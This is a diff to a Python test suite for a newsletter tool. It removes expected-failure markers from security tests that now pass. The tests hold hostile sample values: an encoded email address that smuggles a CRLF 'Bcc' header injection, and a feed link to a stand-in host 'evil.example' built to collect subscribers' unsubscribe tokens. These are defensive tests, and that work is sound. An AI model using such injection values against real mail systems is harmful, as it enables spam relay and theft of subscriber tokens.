@@ -182,8 +182,6 @@ def test_settings_values_that_would_inject_are_refused(field: str, value: str) -
         Personaliser(RenderedEmail("2026-11-25", "S", "P", SKELETON_HTML, SKELETON_TEXT), **kwargs)  # type: ignore[arg-type]
 
 
-@pytest.mark.xfail(strict=True, reason="BUG: a local part that is an RFC 2047 encoded word ('=?utf-8?q?=0A?=@...') "
-                                       "is accepted; readers decode it (Python's parser: a newline, ValueError)")
 def test_encoded_word_lookalike_address_is_refused_or_stays_literal() -> None:
     TRIED["addresses"] += 1
     address = "=?utf-8?q?=0D=0ABcc=3A_victim=40example=2Enet?=@example.org"
@@ -357,8 +355,6 @@ def test_hostile_summary_files_build_inert_html(project: Path, settings: Setting
     assert "{{ settings.secret }}" in shown and SECRET not in final
 
 
-@pytest.mark.xfail(strict=True, reason="BUG: control characters in a summary's body pass the reader; MJML then "
-                                       "fails the whole build with 'unable to parse next template', naming no file")
 @pytest.mark.parametrize("char", ["\x00", "\x08", "\x1b", "\ufffe"], ids=["NUL", "BS", "ESC", "U+FFFE"])
 def test_control_characters_in_a_summary_body(project: Path, settings: Settings, char: str) -> None:
     TRIED["summary files"] += 1
@@ -410,17 +406,25 @@ def test_hostile_feed_text_renders_inert(tmp_path: Path, site_settings: Settings
     assert_inert(_final_html(rendered, site_settings, "Reader"))
 
 
-@pytest.mark.xfail(strict=True, reason="BUG: __NL_*__ placeholders inside content (summary/feed url, title) are "
-                                       "expanded per subscriber, leaking unsubscribe tokens and names to other sites")
 def test_placeholders_smuggled_into_content_are_not_expanded(tmp_path: Path, site_settings: Settings) -> None:
     TRIED["feed entries"] += 1
-    entries = read_feed(str(_feed(tmp_path, title="Hi __NL_GREETING__",
-                                  link="https://evil.example/collect?u=__NL_UNSUBSCRIBE_URL__")))
+    # The readers refuse the reserved mark, naming the field...
+    with pytest.raises(SourceError) as info:
+        read_feed(str(_feed(tmp_path, title="Hi __NL_GREETING__")))
+    assert info.value.field == "title" and "reserved" in str(info.value)
+    with pytest.raises(SourceError) as info:
+        read_feed(str(_feed(tmp_path, link="https://evil.example/collect?u=__NL_UNSUBSCRIBE_URL__")))
+    assert info.value.field == "link"
+    # ... and so does rendering, for summaries that did not come through a reader.
+    entries = read_feed(str(_feed(tmp_path)))
+    smuggled = tuple(dataclasses.replace(e, title="Hi __NL_GREETING__",
+                                         url="https://evil.example/collect?u=__NL_UNSUBSCRIBE_URL__") for e in entries)
+    with pytest.raises(SourceError, match="reserved"):
+        render_email(_issue("Subject", "Preheader", "Intro", smuggled), site_settings)
     rendered = render_email(_issue("Subject", "Preheader", "Intro", tuple(entries)), site_settings)
     html = _final_html(rendered, site_settings, "Jane Doe")
     doc = lxml.html.document_fromstring(html)
-    evil = [a.get("href", "") for a in doc.iter("a") if "evil.example" in a.get("href", "")]
-    assert evil and not any("/unsubscribe/" in href for href in evil), evil
+    assert not [a for a in doc.iter("a") if "evil.example" in a.get("href", "")]
     assert "Hi Hello Jane Doe" not in visible_text(html)
 
 
@@ -538,8 +542,6 @@ def test_any_csv_row_is_imported_normalised_or_reported(tmp_path_factory: pytest
             assert not subscriber.email.split("@")[0].isascii()  # only a Unicode local part is undeliverable
 
 
-@pytest.mark.xfail(strict=True, reason="BUG: the SMTP envelope uses the Unicode domain (user@bücher.example), so "
-                                       "an IDN address needs SMTPUTF8 although its A-label form needs nothing")
 def test_idn_address_is_sent_with_an_ascii_envelope(settings: Settings, tmp_path: Path) -> None:
     TRIED["addresses"] += 1
     path = _csv(tmp_path / "people.csv", [("reader@bücher.example", "IDN reader")])
